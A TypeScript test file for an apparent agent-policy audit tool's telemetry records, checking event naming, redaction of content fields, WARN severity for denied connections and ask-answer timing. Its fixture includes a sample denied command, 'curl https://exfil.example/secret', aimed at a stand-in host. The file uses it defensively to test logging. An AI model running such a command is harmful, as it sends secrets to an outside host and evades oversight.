// An audit line as a log record (telemetryRecords.ts): every event has its documented name, content
// stays out unless allowed, and an ask's answer carries the time it waited.
import assert from 'node:assert/strict';
import { AUDIT_EVENTS, type AuditEntry } from '../../src/runtime/audit/audit.js';
import { AskClock, CONTENT_ATTRIBUTES, EVENT_NAMES, telemetryRecord } from '../../src/runtime/telemetry/telemetryRecords.js';

/** A line with every field that can carry content filled in. */
const full = (event: AuditEntry['event']): AuditEntry => ({
  time: '2026-01-01T10:00:00.000Z', event, session: 'codex:s1', tool: 'builtin.run_command', decision: 'deny',
  summary: 'curl https://exfil.example/secret', reason: 'no curl to unknown hosts', inputDigest: 'sha256:00',
  rule: { layer: 'workspace', id: 'no-curl', index: 2, file: '/home/alice/p/.agentpolicy.jsonc', line: 7 },
  parts: [{ part: 'curl https://exfil.example/secret', decision: 'deny', rule: null }], grantParts: ['git status'],
  undone: ['/home/alice/p/.git/hooks/pre-commit'], hidden: [{ tool: 'mcp.web.fetch', rule: null }], host: 'exfil.example', port: 443,
});

describe('telemetry records', () => {
  it('names every audit event, and leaves every content attribute out unless content is allowed', () => {
    for (const event of AUDIT_EVENTS) {
      assert.match(EVENT_NAMES[event], /^agentpolicy\.[a-z_]+$/);
      const plain = telemetryRecord(full(event), false);
      assert.equal(plain.eventName, EVENT_NAMES[event]);
      for (const key of CONTENT_ATTRIBUTES) assert.equal(plain.attributes[key], undefined, `${event}: ${key}`);
      assert.ok(!JSON.stringify(plain).includes('exfil') && !JSON.stringify(plain).includes('/home/alice'), event);
      const withContent = telemetryRecord(full(event), true);
      for (const key of CONTENT_ATTRIBUTES) assert.notEqual(withContent.attributes[key], undefined, `${event}: ${key}`);
    }
  });

  it('marks a sandbox refusal (a connection denied) as a WARN with its rule, host and source', () => {
    const r = telemetryRecord(full('connection'), false);
    assert.equal(r.eventName, 'agentpolicy.connection');
    assert.equal(r.severity, 'WARN');
    assert.deepEqual([r.attributes['agentpolicy.decision'], r.attributes['agentpolicy.rule.id'], r.attributes['agentpolicy.host'], r.attributes['agentpolicy.source']], ['deny', 'no-curl', 'codex', 'hook']);
    assert.equal(r.attributes['agentpolicy.parts.count'], 1);
  });

  it('gives an answer the milliseconds since its ask was opened, once', () => {
    const clock = new AskClock();
    const at = (time: string, event: AuditEntry['event']): AuditEntry => ({ time, event, session: 's', callback: 'cb1' });
    assert.equal(clock.see(at('2026-01-01T10:00:00.000Z', 'callback-opened')), undefined);
    assert.equal(clock.see(at('2026-01-01T10:00:02.500Z', 'callback-settled')), 2500);
    assert.equal(clock.see(at('2026-01-01T10:00:03.000Z', 'callback-settled')), undefined);
  });
});
